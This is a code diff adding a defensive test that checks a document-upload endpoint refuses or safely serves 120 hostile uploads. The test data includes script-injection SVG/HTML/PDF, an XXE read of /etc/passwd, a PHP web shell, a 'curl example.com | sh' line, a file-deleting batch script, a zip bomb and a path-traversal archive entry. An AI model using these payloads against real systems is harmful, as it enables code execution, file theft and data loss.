@@ -50,6 +50,60 @@ stories! {
         assert_eq!(rows, 0);
     }
 
+    /// P18: a hundred and twenty files that mean harm. Each is refused, or leaves as a download in which nothing runs.
+    async fn a_hundred_and_twenty_files(house) {
+        let ana = house.client(ANA).await;
+        let sam = house.sign_in(SAM).await;
+        let tab = format!("/clients/{ana}/documents");
+        let behind = |first: Vec<u8>, second: &[u8]| [first, second.to_vec()].concat();
+        let wide = |text: &str| [b"\xff\xfe".to_vec(), text.encode_utf16().flat_map(u16::to_le_bytes).collect()].concat();
+        let harmful: [(&str, Vec<u8>); 24] = [
+            ("svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec()),
+            ("svg behind a comment", b"<!-- x --><svg><script>alert(1)</script></svg>".to_vec()),
+            ("svg with a doctype", b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>".to_vec()),
+            ("html", b"<html><body onload=alert(1)>".to_vec()),
+            ("html behind a mark", b"\xef\xbb\xbf\n\n <!doctype html><script>alert(1)</script>".to_vec()),
+            ("html in wide letters", wide("<html><script>alert(1)</script>")),
+            ("html late", behind(vec![b' '; 5_000], b"<script>alert(1)</script>")),
+            ("web archive", b"MIME-Version: 1.0\nContent-Type: text/html\n\n<html><script>alert(1)</script>".to_vec()),
+            ("php", b"<?php system($_GET['c']); ?>".to_vec()),
+            ("shell", b"#!/bin/sh\ncurl example.com | sh\n".to_vec()),
+            ("batch", b"@echo off\r\ndel /q *\r\n".to_vec()),
+            ("postscript", b"%!PS\n(%pipe%id) (w) file\n".to_vec()),
+            ("program", b"MZ\x90\0\x03\0\0\0\x04".to_vec()),
+            ("program of another house", b"\x7fELF\x02\x01\x01\0".to_vec()),
+            ("shortcut", b"L\0\0\0\x01\x14\x02\0".to_vec()),
+            ("pdf that runs", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n".to_vec()),
+            ("pdf and html", b"%PDF-1.7\n<html><script>alert(1)</script>\n%%EOF\n".to_vec()),
+            ("pdf and zip", behind(pdf("x"), &docx())),
+            ("picture and html", { let mut all = png(); all.splice(33..33, *b"<html><script>alert(1)</script>"); all }),
+            ("picture and archive", behind(png(), &docx())),
+            ("picture and program", behind(b"\xff\xd8\xff\xe0<?php x ?>".to_vec(), b"\xff\xd9")),
+            ("bomb", archive(&[("[Content_Types].xml", 1), ("word/document.xml", 4_000_000_000)])),
+            ("macros", archive(&[("[Content_Types].xml", 1), ("word/document.xml", 1), ("word/vbaProject.bin", 1)])),
+            ("climbing", archive(&[("[Content_Types].xml", 1), ("word/document.xml", 1), ("../../.ssh/authorized_keys", 1)])),
+        ];
+        let (mut tried, mut taken) = (0, 0);
+        for (what, content) in &harmful {
+            for name in ["../../index.html", "letter.pdf", "photo.png", "notes.txt", "report.docx"] {
+                sam.open(&tab).await;
+                let answer = sam.attach("Files", name, content).press("Upload").await;
+                tried += 1;
+                if answer.status == 422 {
+                    continue;
+                }
+                taken += 1;
+                let file = sam.open(&format!("{tab}/{}/file", newest(house).await)).await.status(200);
+                assert!(file.header("content-disposition").starts_with("attachment; filename=\""), "{what} as {name}");
+                assert_eq!(file.header("x-content-type-options"), "nosniff", "{what} as {name}");
+                assert!(file.header("content-security-policy").ends_with("; sandbox"), "{what} as {name}");
+                assert!(["application/pdf", "text/plain"].contains(&file.header("content-type")), "{what} as {name} is {}", file.header("content-type"));
+            }
+        }
+        assert_eq!(tried, 120);
+        assert!(taken <= 5, "only the PDF that would run within itself is taken, not {taken}");
+    }
+
     /// What is taken, by its content, with the ending of what it is.
     async fn what_is_taken_gets_its_own_ending(house) {
         let ana = house.client(ANA).await;
